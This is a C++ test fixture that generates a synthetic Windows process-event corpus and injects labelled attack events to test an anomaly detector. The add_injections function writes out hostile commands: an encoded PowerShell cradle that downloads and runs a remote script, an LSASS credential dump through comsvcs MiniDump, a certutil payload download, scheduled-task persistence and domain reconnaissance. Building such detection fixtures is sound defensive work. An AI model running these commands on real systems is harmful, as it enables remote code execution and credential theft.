#include "support/corpus.hpp"

#include <cmath>
#include <functional>

#include "isoex/random.hpp"
#include "isoex/text.hpp"

namespace isoex::fixtures {

namespace {

using ingest::IntegrityLevel;
using ingest::ProcessEvent;

constexpr const char* kDevice = "ws-0142";
constexpr const char* kUser = "CONTOSO\\alice";

class Rng {
 public:
  explicit Rng(std::uint64_t seed) : g_(seed) {}
  std::int64_t between(std::int64_t lo, std::int64_t hi) {
    return lo + static_cast<std::int64_t>(g_.below(static_cast<std::uint64_t>(hi - lo + 1)));
  }
  double uniform() { return g_.uniform01(); }
  bool chance(double p) { return uniform() < p; }
  double normal() {
    double u = uniform();
    while (u <= 0.0) u = uniform();
    return std::sqrt(-2.0 * std::log(u)) * std::cos(2.0 * M_PI * uniform());
  }
  template <typename T>
  const T& pick(const std::vector<T>& v) {
    return v[g_.below(v.size())];
  }
  std::string digits(int n) {
    std::string s;
    for (int i = 0; i < n; ++i) s.push_back(static_cast<char>('0' + (i == 0 ? between(1, 9) : between(0, 9))));
    return s;
  }
  std::string hex_lower(int n) {
    static const char* kHex = "0123456789abcdef";
    std::string s;
    for (int i = 0; i < n; ++i) s.push_back(kHex[between(0, 15)]);
    return s;
  }

 private:
  random::Xoshiro256 g_;
};

std::string base64(const std::string& bytes) {
  static const char* kAlphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::size_t i = 0;
  for (; i + 2 < bytes.size(); i += 3) {
    const unsigned v = (static_cast<unsigned char>(bytes[i]) << 16) | (static_cast<unsigned char>(bytes[i + 1]) << 8) |
                       static_cast<unsigned char>(bytes[i + 2]);
    for (int s = 18; s >= 0; s -= 6) out.push_back(kAlphabet[(v >> s) & 63]);
  }
  if (i < bytes.size()) {
    unsigned v = static_cast<unsigned char>(bytes[i]) << 16;
    if (i + 1 < bytes.size()) v |= static_cast<unsigned char>(bytes[i + 1]) << 8;
    out.push_back(kAlphabet[(v >> 18) & 63]);
    out.push_back(kAlphabet[(v >> 12) & 63]);
    out.push_back(i + 1 < bytes.size() ? kAlphabet[(v >> 6) & 63] : '=');
    out.push_back('=');
  }
  return out;
}

std::string utf16le(const std::string& ascii) {
  std::string out;
  for (char c : ascii) {
    out.push_back(c);
    out.push_back('\0');
  }
  return out;
}

enum class Parent { kServices, kDcom, kScheduler, kSearchIndexer, kUserinit, kExplorer, kChrome, kEdge, kCode };

struct Template {
  std::string file_name;
  std::string folder;
  IntegrityLevel integrity;
  std::string account;
  Parent parent;
  bool business_hours;
  double weight;            // 0 for per-day instances
  double mean_duration_s;
  std::function<std::string(Rng&)> command;
  std::vector<std::pair<std::string, std::string>> images;
  bool spawns_console = false;
};

constexpr const char* kSys32 = "C:\\Windows\\System32";
constexpr const char* kChromeDir = "C:\\Program Files\\Google\\Chrome\\Application";
constexpr const char* kEdgeDir = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application";
constexpr const char* kOfficeDir = "C:\\Program Files\\Microsoft Office\\root\\Office16";
constexpr const char* kCodeDir = "C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code";

std::vector<Template> templates() {
  const std::vector<std::pair<std::string, std::string>> base = {{"ntdll.dll", kSys32}, {"kernel32.dll", kSys32}};
  auto with = [&](std::vector<std::pair<std::string, std::string>> extra) {
    auto v = base;
    v.insert(v.end(), extra.begin(), extra.end());
    return v;
  };
  const auto S = IntegrityLevel::kSystem;
  const auto M = IntegrityLevel::kMedium;
  const auto L = IntegrityLevel::kLow;
  std::vector<Template> t;
  // 0..2: service hosts.
  t.push_back({"svchost.exe", kSys32, S, "NT AUTHORITY\\SYSTEM", Parent::kServices, false, 10, 3600,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"Schedule", "BITS", "Winmgmt", "gpsvc", "ProfSvc", "Themes"};
                 return "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s " + r.pick(s);
               },
               with({{"sechost.dll", kSys32}})});
  t.push_back({"svchost.exe", kSys32, S, "NT AUTHORITY\\LOCAL SERVICE", Parent::kServices, false, 5, 5400,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"Dhcp", "EventLog", "lmhosts", "TimeBrokerSvc"};
                 return "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s " + r.pick(s);
               },
               with({{"sechost.dll", kSys32}})});
  t.push_back({"svchost.exe", kSys32, S, kUser, Parent::kServices, true, 3, 7200,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"CDPUserSvc_", "WpnUserService_", "OneSyncSvc_"};
                 return "C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup -s " + r.pick(s) + "4d2c1";
               },
               with({{"sechost.dll", kSys32}})});
  // 3..5: browser children.
  t.push_back({"chrome.exe", kChromeDir, L, kUser, Parent::kChrome, true, 25, 240,
               [](Rng& r) {
                 return std::string("\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer "
                                    "--lang=en-US --device-scale-factor=1 --num-raster-threads=4 "
                                    "--enable-main-frame-before-activation --renderer-client-id=") +
                        std::to_string(r.between(5, 400)) + " --launch-time-ticks=" + r.digits(11) +
                        " --mojo-platform-channel-handle=" + std::to_string(r.between(1000, 9000)) +
                        " --field-trial-handle=" + std::to_string(r.between(1700, 2100)) + ",i," + r.digits(19) + "," +
                        r.digits(19) + ",262144 /prefetch:1";
               },
               with({{"chrome_elf.dll", kChromeDir}, {"chrome.dll", kChromeDir}})});
  t.push_back({"chrome.exe", kChromeDir, M, kUser, Parent::kChrome, true, 0, 3600,
               [](Rng& r) {
                 return std::string("\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=gpu-process "
                                    "--gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA== "
                                    "--mojo-platform-channel-handle=") +
                        std::to_string(r.between(1000, 9000)) + " --field-trial-handle=" +
                        std::to_string(r.between(1700, 2100)) + ",i," + r.digits(19) + "," + r.digits(19) +
                        ",262144 /prefetch:2";
               },
               with({{"chrome_elf.dll", kChromeDir}, {"chrome.dll", kChromeDir}, {"d3d11.dll", kSys32}})});
  t.push_back({"chrome.exe", kChromeDir, M, kUser, Parent::kChrome, true, 0, 3000,
               [](Rng& r) {
                 return std::string("\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility "
                                    "--utility-sub-type=network.mojom.NetworkService --lang=en-US "
                                    "--service-sandbox-type=none --mojo-platform-channel-handle=") +
                        std::to_string(r.between(1000, 9000)) + " --field-trial-handle=" +
                        std::to_string(r.between(1700, 2100)) + ",i," + r.digits(19) + "," + r.digits(19) +
                        ",262144 /prefetch:8";
               },
               with({{"chrome_elf.dll", kChromeDir}, {"chrome.dll", kChromeDir}})});
  // 6: chrome browser, one per working day.
  t.push_back({"chrome.exe", kChromeDir, M, kUser, Parent::kExplorer, true, 0, 7200,
               [](Rng&) { return std::string("\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""); },
               with({{"chrome_elf.dll", kChromeDir}, {"chrome.dll", kChromeDir}})});
  // 7..9: Edge.
  t.push_back({"msedge.exe", kEdgeDir, L, kUser, Parent::kEdge, true, 8, 200,
               [](Rng& r) {
                 return std::string("\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" "
                                    "--type=renderer --lang=en-US --js-flags=--ms-user-locale= "
                                    "--renderer-client-id=") +
                        std::to_string(r.between(5, 300)) + " --mojo-platform-channel-handle=" +
                        std::to_string(r.between(1000, 9000)) + " --field-trial-handle=" +
                        std::to_string(r.between(1700, 2100)) + ",i," + r.digits(19) + "," + r.digits(19) +
                        ",131072 /prefetch:1";
               },
               with({{"msedge_elf.dll", kEdgeDir}})});
  t.push_back({"msedge.exe", kEdgeDir, M, kUser, Parent::kExplorer, true, 0, 5400,
               [](Rng&) {
                 return std::string("\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" "
                                    "--no-startup-window --win-session-start /prefetch:5");
               },
               with({{"msedge_elf.dll", kEdgeDir}})});
  t.push_back({"identity_helper.exe", kEdgeDir, M, kUser, Parent::kEdge, true, 2, 600,
               [](Rng& r) {
                 return std::string("\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\identity_helper.exe\" "
                                    "--type=utility --utility-sub-type=winrt_app_id.mojom.WinrtAppIdService "
                                    "--lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=") +
                        std::to_string(r.between(1000, 9000)) + " --field-trial-handle=" +
                        std::to_string(r.between(1700, 2100)) + ",i," + r.digits(19) + "," + r.digits(19) +
                        ",131072 /prefetch:8";
               },
               base});
  // 10: shell, one per working day.
  t.push_back({"explorer.exe", "C:\\Windows", M, kUser, Parent::kUserinit, true, 0, 32000,
               [](Rng&) { return std::string("C:\\Windows\\Explorer.EXE"); },
               with({{"shell32.dll", kSys32}, {"version.dll", kSys32}})});
  // 11: console host, spawned alongside each cmd.exe.
  t.push_back({"conhost.exe", kSys32, M, kUser, Parent::kExplorer, true, 0, 20,
               [](Rng&) { return std::string("\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"); },
               base});
  // 12..13: batch jobs and developer shells.
  t.push_back({"cmd.exe", kSys32, M, kUser, Parent::kScheduler, false, 4, 15,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"sync_shares", "backup_docs", "refresh_drives", "clean_temp"};
                 return "C:\\Windows\\system32\\cmd.exe /c \"C:\\ProgramData\\Contoso\\Tools\\" + r.pick(s) + ".bat\"";
               },
               base, true});
  t.push_back({"cmd.exe", kSys32, M, kUser, Parent::kCode, true, 3, 40,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"npm run build", "npm test", "git status", "dir /b"};
                 return "C:\\Windows\\system32\\cmd.exe /d /s /c \"" + r.pick(s) + "\"";
               },
               base, true});
  t.push_back({"taskhostw.exe", kSys32, M, kUser, Parent::kScheduler, true, 3, 900,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"KEYROAMING", "Install $(Arg0)", "-RegisterDevice -ProtectionStateChanged -FreeNetworkOnly"};
                 return "taskhostw.exe " + r.pick(s);
               },
               base});
  // 15..16: office documents.
  t.push_back({"WINWORD.EXE", kOfficeDir, M, kUser, Parent::kExplorer, true, 3, 1800,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"Quarterly_Report", "Meeting_Notes", "Proposal_Draft", "Contract_Review", "Travel_Policy"};
                 return "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\alice\\Documents\\" +
                        r.pick(s) + "_" + std::to_string(r.between(1, 40)) + ".docx\" /o \"\"";
               },
               with({{"version.dll", kSys32}, {"mso.dll", kOfficeDir}})});
  t.push_back({"EXCEL.EXE", kOfficeDir, M, kUser, Parent::kExplorer, true, 2, 1500,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"Budget", "Forecast", "Headcount", "Expenses"};
                 return "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" \"C:\\Users\\alice\\Documents\\" +
                        r.pick(s) + "_2023_" + std::to_string(r.between(1, 12)) + ".xlsx\"";
               },
               with({{"version.dll", kSys32}, {"mso.dll", kOfficeDir}})});
  // 17..21: platform brokers.
  t.push_back({"SearchProtocolHost.exe", kSys32, S, "NT AUTHORITY\\SYSTEM", Parent::kSearchIndexer, false, 5, 120,
               [](Rng& r) {
                 const std::string n = std::to_string(r.between(1, 60));
                 return "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe" + n +
                        "_ Global\\UsGthrCtrlFltPipeMssGthrPipe" + n +
                        " 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; "
                        "Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" "
                        "\"DownLevelDaemon\"";
               },
               base});
  t.push_back({"backgroundTaskHost.exe", kSys32, M, kUser, Parent::kDcom, true, 3, 30,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
                                                            "BackgroundTaskHost.WebAccountProvider",
                                                            "App.AppX9jmbkf5yyd2qbgmj6e4xhmfcqzx0wnx8.mca"};
                 return "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:" + r.pick(s);
               },
               base});
  t.push_back({"RuntimeBroker.exe", kSys32, M, kUser, Parent::kDcom, true, 4, 900,
               [](Rng&) { return std::string("C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"); }, base});
  t.push_back({"dllhost.exe", kSys32, M, kUser, Parent::kDcom, true, 4, 60,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"{3EB3C877-1F16-487C-9050-104DBCD66683}",
                                                            "{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
                                                            "{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}",
                                                            "{776DBC8D-7347-478C-8D71-791E12EF49D8}"};
                 return "C:\\Windows\\system32\\DllHost.exe /Processid:" + r.pick(s);
               },
               base});
  t.push_back({"WmiPrvSE.exe", "C:\\Windows\\System32\\wbem", S, "NT AUTHORITY\\NETWORK SERVICE", Parent::kDcom, false, 3,
               300, [](Rng&) { return std::string("C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"); },
               base});
  // 22..25: developer tooling.
  t.push_back({"git.exe", "C:\\Program Files\\Git\\mingw64\\bin", M, kUser, Parent::kCode, true, 4, 3,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"fetch origin --prune", "status --porcelain=v1 -uall",
                                                            "log --oneline -n 20", "rev-parse --show-toplevel",
                                                            "diff --stat HEAD"};
                 return "\"C:\\Program Files\\Git\\mingw64\\bin\\git.exe\" " + r.pick(s);
               },
               base});
  t.push_back({"Code.exe", kCodeDir, M, kUser, Parent::kExplorer, true, 0, 7200,
               [](Rng&) { return std::string("\"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\""); },
               base});
  t.push_back({"Code.exe", kCodeDir, M, kUser, Parent::kCode, true, 3, 5000,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"renderer", "utility", "gpu-process"};
                 return "\"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=" + r.pick(s) +
                        " --lang=en-US --mojo-platform-channel-handle=" + std::to_string(r.between(1000, 9000)) +
                        " --field-trial-handle=" + std::to_string(r.between(1700, 2100)) + ",i," + r.digits(19) + "," +
                        r.digits(19) + ",262144 /prefetch:1";
               },
               base});
  t.push_back({"python.exe", "C:\\Users\\alice\\AppData\\Local\\Programs\\Python\\Python311", M, kUser, Parent::kCode,
               true, 2, 45,
               [](Rng& r) {
                 return "python.exe C:\\Users\\alice\\projects\\etl\\run.py --date 2023-05-" +
                        std::to_string(r.between(10, 28)) + " --batch " + std::to_string(r.between(1, 500));
               },
               with({{"python311.dll", "C:\\Users\\alice\\AppData\\Local\\Programs\\Python\\Python311"}})});
  // 26..29: miscellaneous.
  t.push_back({"notepad.exe", kSys32, M, kUser, Parent::kExplorer, true, 1.5, 600,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"todo", "scratch", "standup", "ideas"};
                 return "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\alice\\notes\\" + r.pick(s) + ".txt";
               },
               base});
  t.push_back({"rundll32.exe", kSys32, M, kUser, Parent::kDcom, true, 2, 5,
               [](Rng&) {
                 return std::string("C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\shell32.dll,"
                                    "SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding");
               },
               with({{"shell32.dll", kSys32}})});
  t.push_back({"MpCmdRun.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23050.5-0",
               S, "NT AUTHORITY\\SYSTEM", Parent::kScheduler, false, 2, 25,
               [](Rng& r) {
                 static const std::vector<std::string> s = {"-wdenable", "SignatureUpdate -ScheduleJob -RestrictPrivileges",
                                                            "-IdleTask -TaskName WdCacheMaintenance"};
                 return "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23050.5-0\\MpCmdRun.exe\" " + r.pick(s);
               },
               base});
  t.push_back({"msiexec.exe", kSys32, S, "NT AUTHORITY\\SYSTEM", Parent::kServices, false, 0.6, 40,
               [](Rng&) { return std::string("C:\\Windows\\system32\\msiexec.exe /V"); }, base});
  return t;
}

struct Instance {
  std::string file_name;
  std::string folder;
  std::string command_line;
  std::int64_t pid = 0;
  std::int64_t creation_ns = 0;
};

Instance system_instance(const char* file, const char* folder, const char* cmd, std::int64_t pid, std::int64_t start) {
  return {file, folder, cmd, pid, start};
}

class Builder {
 public:
  Builder(std::uint64_t seed) : rng_(seed), templates_(templates()) {
    epoch_ = days_from_civil(2023, 5, 1) * kNanosPerDay;  // a Monday
    const std::int64_t boot = epoch_ - 2 * kNanosPerHour;
    services_ = system_instance("services.exe", kSys32, "C:\\Windows\\system32\\services.exe", 780, boot);
    dcom_ = system_instance("svchost.exe", kSys32, "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", 904,
                            boot + kNanosPerSecond);
    scheduler_ = system_instance("svchost.exe", kSys32, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                                 1480, boot + 3 * kNanosPerSecond);
    indexer_ = system_instance("SearchIndexer.exe", kSys32, "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", 5012,
                               boot + 40 * kNanosPerSecond);
    userinit_ = system_instance("userinit.exe", kSys32, "C:\\Windows\\system32\\userinit.exe", 6620,
                                boot + 90 * kNanosPerSecond);
  }

  Corpus build(std::size_t benign, bool inject) {
    Corpus c;
    c.template_count = templates_.size();
    std::vector<int> weekdays;
    for (int d = 0; d < 30; ++d) {
      if (d % 7 < 5) weekdays.push_back(d);
    }
    for (int d : weekdays) {
      auto& day = days_[d];
      const std::int64_t morning = day_start(d) + 8 * kNanosPerHour + rng_.between(0, 40) * 60 * kNanosPerSecond;
      day.explorer = emit(10, morning, userinit_);
      // Browser and editor windows are closed and reopened during the day.
      day.chrome = sessions(6, morning, day.explorer, 1, 2);
      day.edge = sessions(8, morning, day.explorer, 1, 2);
      day.code = sessions(23, morning, day.explorer, 1, 3);
    }

    double total_weight = 0.0;
    for (const auto& t : templates_) total_weight += t.weight;
    while (events_.size() < benign) {
      double pick = rng_.uniform() * total_weight;
      std::size_t ti = 0;
      for (; ti + 1 < templates_.size(); ++ti) {
        if (pick < templates_[ti].weight) break;
        pick -= templates_[ti].weight;
      }
      if (templates_[ti].weight == 0.0) continue;
      const auto& t = templates_[ti];
      const int d = t.business_hours ? weekdays[rng_.between(0, static_cast<std::int64_t>(weekdays.size()) - 1)]
                                     : static_cast<int>(rng_.between(0, 29));
      std::int64_t ts;
      if (t.business_hours) {
        const double hour = std::clamp(12.5 + 2.6 * rng_.normal(), 8.8, 18.4);
        ts = day_start(d) + static_cast<std::int64_t>(hour * 3600.0) * kNanosPerSecond;
      } else {
        ts = day_start(d) + rng_.between(0, 24 * 3600 - 1) * kNanosPerSecond;
      }
      ts += rng_.between(0, 999'999) * 1000;
      const Instance parent = parent_for(t.parent, d, ts);
      if (ts <= parent.creation_ns) ts = parent.creation_ns + rng_.between(1, 600) * kNanosPerSecond;
      const Instance self = emit(ti, ts, parent);
      if (t.spawns_console && events_.size() < benign) emit(11, ts + rng_.between(5, 40) * 1'000'000, self);
    }

    if (inject) add_injections(c);

    c.dataset.device_id = kDevice;
    c.dataset.events = std::move(events_);
    ingest::finalize(c.dataset);
    c.images = images_;
    c.dataset = ingest::join_image_events(std::move(c.dataset), images_);
    return c;
  }

 private:
  struct Day {
    Instance explorer;
    std::vector<Instance> chrome, edge, code;
  };

  std::vector<Instance> sessions(std::size_t ti, std::int64_t morning, const Instance& parent, int lo, int hi) {
    const int n = static_cast<int>(rng_.between(lo, hi));
    std::vector<std::int64_t> starts;
    starts.push_back(morning + rng_.between(60, 1800) * kNanosPerSecond);
    for (int i = 1; i < n; ++i) starts.push_back(morning + rng_.between(1800, 9 * 3600) * kNanosPerSecond);
    std::sort(starts.begin(), starts.end());
    std::vector<Instance> out;
    for (std::int64_t ts : starts) {
      out.push_back(emit(ti, ts, parent));
      // Each browser session starts its own GPU and network service processes.
      if (ti == 6) {
        emit(4, ts + rng_.between(80, 400) * 1'000'000, out.back());
        emit(5, ts + rng_.between(100, 600) * 1'000'000, out.back());
      }
    }
    return out;
  }

  // The latest session started before `ts`, else the first one.
  static const Instance& active(const std::vector<Instance>& s, std::int64_t ts) {
    const Instance* best = &s.front();
    for (const auto& i : s) {
      if (i.creation_ns < ts) best = &i;
    }
    return *best;
  }

  std::int64_t day_start(int d) const { return epoch_ + d * kNanosPerDay; }

  Instance parent_for(Parent p, int d, std::int64_t ts) {
    switch (p) {
      case Parent::kServices: return services_;
      case Parent::kDcom: return dcom_;
      case Parent::kScheduler: return scheduler_;
      case Parent::kSearchIndexer: return indexer_;
      case Parent::kUserinit: return userinit_;
      case Parent::kExplorer: return days_.at(d).explorer;
      case Parent::kChrome: return active(days_.at(d).chrome, ts);
      case Parent::kEdge: return active(days_.at(d).edge, ts);
      case Parent::kCode: return active(days_.at(d).code, ts);
    }
    return services_;
  }

  std::int64_t new_pid() { return rng_.between(250, 9000) * 4; }

  ProcessEvent base_event(std::int64_t ts, const Instance& parent) {
    ProcessEvent ev;
    char id[32];
    std::snprintf(id, sizeof(id), "evt-%06zu", ++serial_);
    ev.event_id = id;
    ev.timestamp.ns = ts;
    ev.timestamp.fraction_digits = 7;
    ev.timestamp.text = format_timestamp(ts, 7);
    ev.device_id = kDevice;
    ev.process_id = new_pid();
    ev.process_creation_ns = ts;
    ev.parent_file_name = parent.file_name;
    ev.parent_folder_path = parent.folder;
    ev.parent_command_line = parent.command_line;
    ev.parent_process_id = parent.pid;
    ev.parent_creation_ns = parent.creation_ns;
    return ev;
  }

  void finish(ProcessEvent& ev, double mean_duration_s, const std::vector<std::pair<std::string, std::string>>& images) {
    if (mean_duration_s > 0 && !rng_.chance(0.05)) {
      const double seconds = mean_duration_s * std::exp(0.5 * rng_.normal());
      const std::int64_t end = ev.timestamp.ns + static_cast<std::int64_t>(seconds * 1e7) * 100;
      ev.end_time = Timestamp{end, format_timestamp(end, 7), 7};
    }
    std::int64_t at = ev.timestamp.ns;
    for (const auto& [name, folder] : images) {
      at += rng_.between(1, 50) * 1'000'000;
      ingest::ImageLoadEvent img;
      img.timestamp = Timestamp{at, format_timestamp(at, 7), 7};
      img.device_id = kDevice;
      img.image_file_name = name;
      img.image_folder_path = folder;
      img.loading_process_id = ev.process_id;
      img.loading_process_creation_ns = ev.process_creation_ns;
      images_.push_back(std::move(img));
    }
    events_.push_back(std::move(ev));
  }

  Instance emit(std::size_t ti, std::int64_t ts, const Instance& parent) {
    const auto& t = templates_[ti];
    ProcessEvent ev = base_event(ts, parent);
    ev.file_name = t.file_name;
    ev.folder_path = t.folder;
    ev.command_line = t.command(rng_);
    ev.integrity_level = t.integrity;
    ev.account_name = t.account;
    Instance self{t.file_name, t.folder, ev.command_line, ev.process_id, ev.process_creation_ns};
    finish(ev, t.mean_duration_s, t.images);
    return self;
  }

  std::int64_t business_time(int d) {
    return day_start(d) + static_cast<std::int64_t>(rng_.between(9 * 3600, 17 * 3600)) * kNanosPerSecond +
           rng_.between(0, 999'999) * 1000;
  }

  int random_weekday() {
    for (;;) {
      const int d = static_cast<int>(rng_.between(0, 29));
      if (d % 7 < 5) return d;
    }
  }

  void inject_event(Corpus& c, const std::string& name, std::vector<std::string> families, std::int64_t ts,
                    const Instance& parent, const std::string& file, const std::string& folder, const std::string& cmd,
                    IntegrityLevel integrity, double duration_s,
                    std::vector<std::pair<std::string, std::string>> images = {{"ntdll.dll", kSys32},
                                                                              {"kernel32.dll", kSys32}}) {
    if (ts <= parent.creation_ns) ts = parent.creation_ns + 60 * kNanosPerSecond;
    ProcessEvent ev = base_event(ts, parent);
    ev.file_name = file;
    ev.folder_path = folder;
    ev.command_line = cmd;
    ev.integrity_level = integrity;
    ev.account_name = kUser;
    c.injections.push_back({ev.event_id, name, std::move(families)});
    finish(ev, duration_s, images);
  }

  void add_injections(Corpus& c) {
    const auto I = [](IntegrityLevel l) { return l; };
    {
      const int d = random_weekday();
      const std::string script =
          "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');"
          "IEX $c.DownloadString('http://203.0.113.77:8080/stage2.ps1');Start-Sleep -s 30";
      inject_event(c, "base64_encoded_command", {"base64", "entropy", "obfuscation"}, business_time(d), days_[d].explorer,
                   "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
                   "powershell.exe -NoP -NonI -W Hidden -Enc " + base64(utf16le(script)), I(IntegrityLevel::kMedium), 45);
    }
    {
      const int d = random_weekday();
      inject_event(c, "double_extension_phishing", {"phishing", "extensions"}, business_time(d), days_[d].explorer,
                   "Invoice_May2023.pdf.exe", "C:\\Users\\alice\\Downloads",
                   "\"C:\\Users\\alice\\Downloads\\Invoice_May2023.pdf.exe\"", I(IntegrityLevel::kMedium), 20);
    }
    {
      // The shell is spawned by one of that day's Word sessions.
      const int d = random_weekday();
      const std::int64_t ts = business_time(d);
      const Instance word = emit(15, ts - 40 * kNanosPerSecond, days_[d].explorer);
      inject_event(c, "office_spawns_shell", {"parent_child", "siblings"}, ts, word, "cmd.exe", kSys32,
                   "C:\\Windows\\system32\\cmd.exe /c whoami /all & net group \"domain admins\" /domain & ipconfig /all",
                   I(IntegrityLevel::kMedium), 4);
    }
    {
      const int d = random_weekday();
      inject_event(c, "lsass_dump", {"dump", "parameters"}, business_time(d), days_[d].explorer, "rundll32.exe", kSys32,
                   "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 764 "
                   "C:\\Windows\\Temp\\lsass.dmp full",
                   I(IntegrityLevel::kHigh), 3);
    }
    {
      // Sunday 03:12.
      const int d = 6;
      const std::int64_t ts = day_start(d) + 3 * kNanosPerHour + 12 * 60 * kNanosPerSecond + 5 * kNanosPerSecond;
      inject_event(c, "offhours_wrong_location", {"launch_time", "documentation", "frequency", "integrity"}, ts,
                   scheduler_, "svchost.exe", "C:\\Users\\Public\\Libraries",
                   "C:\\Users\\Public\\Libraries\\svchost.exe -k netsvcs", I(IntegrityLevel::kMedium), 7200);
    }
    {
      const int d = random_weekday();
      static const char* kPrintable =
          "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!#$%&()*-.;<>?@[]_{}~";
      std::string blob;
      for (int i = 0; i < 160; ++i) blob.push_back(kPrintable[rng_.between(0, 81)]);
      inject_event(c, "high_entropy_blob", {"entropy", "char_distribution", "markov_score", "language_vector", "frequency"},
                   business_time(d), days_[d].explorer, "tmp4f2a.exe", "C:\\Users\\alice\\AppData\\Local\\Temp",
                   "C:\\Users\\alice\\AppData\\Local\\Temp\\tmp4f2a.exe -k " + blob, I(IntegrityLevel::kMedium), 12);
    }
    {
      const int d = random_weekday();
      inject_event(c, "scheduled_task_persistence", {"scheduled", "frequency"}, business_time(d), days_[d].explorer,
                   "schtasks.exe", kSys32,
                   "schtasks.exe /create /tn \"MicrosoftEdgeUpdateTaskMachineUA2\" /tr "
                   "\"C:\\Users\\Public\\Libraries\\edgeupd.exe\" /sc minute /mo 15 /f",
                   I(IntegrityLevel::kMedium), 1);
    }
    {
      const int d = random_weekday();
      inject_event(c, "rare_dll_load", {"image_events"}, business_time(d), days_[d].explorer, "rundll32.exe", kSys32,
                   "C:\\Windows\\system32\\rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\msupd.dll,DllRegisterServer",
                   I(IntegrityLevel::kMedium), 90,
                   {{"ntdll.dll", kSys32},
                    {"kernel32.dll", kSys32},
                    {"msupd.dll", "C:\\Users\\alice\\AppData\\Local\\Temp"},
                    {"version.dll", "C:\\Users\\alice\\AppData\\Local\\Temp"}});
    }
    {
      const int d = random_weekday();
      const std::int64_t ts = business_time(d);
      inject_event(c, "url_encoded_payload", {"url_encoded", "hostnames"}, ts, active(days_[d].edge, ts), "msedge.exe",
                   kEdgeDir,
                   "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument "
                   "https://login-micros0ft.duckdns.org/oauth?next=%68%74%74%70%3A%2F%2F%65%76%69%6C%2E%63%6F%6D%2F%70%2E%6A%73",
                   I(IntegrityLevel::kMedium), 300);
    }
    {
      const int d = random_weekday();
      inject_event(c, "webremote_download", {"webremote", "frequency"}, business_time(d), days_[d].explorer,
                   "certutil.exe", kSys32,
                   "certutil.exe -urlcache -split -f http://198.51.100.23/files/a.txt C:\\Users\\Public\\a.exe",
                   I(IntegrityLevel::kMedium), 2);
    }
  }

  Rng rng_;
  std::vector<Template> templates_;
  std::int64_t epoch_ = 0;
  Instance services_, dcom_, scheduler_, indexer_, userinit_;
  std::map<int, Day> days_;
  std::vector<ProcessEvent> events_;
  std::vector<ingest::ImageLoadEvent> images_;
  std::size_t serial_ = 0;
};

}  // namespace

Corpus make_workstation_corpus(std::uint64_t seed, std::size_t benign, bool inject) {
  return Builder(seed).build(benign, inject);
}

std::string images_csv(const std::vector<ingest::ImageLoadEvent>& images) {
  std::string out = "Timestamp,DeviceId,FileName,FolderPath,InitiatingProcessId,InitiatingProcessCreationTime,SHA1\n";
  for (const auto& img : images) {
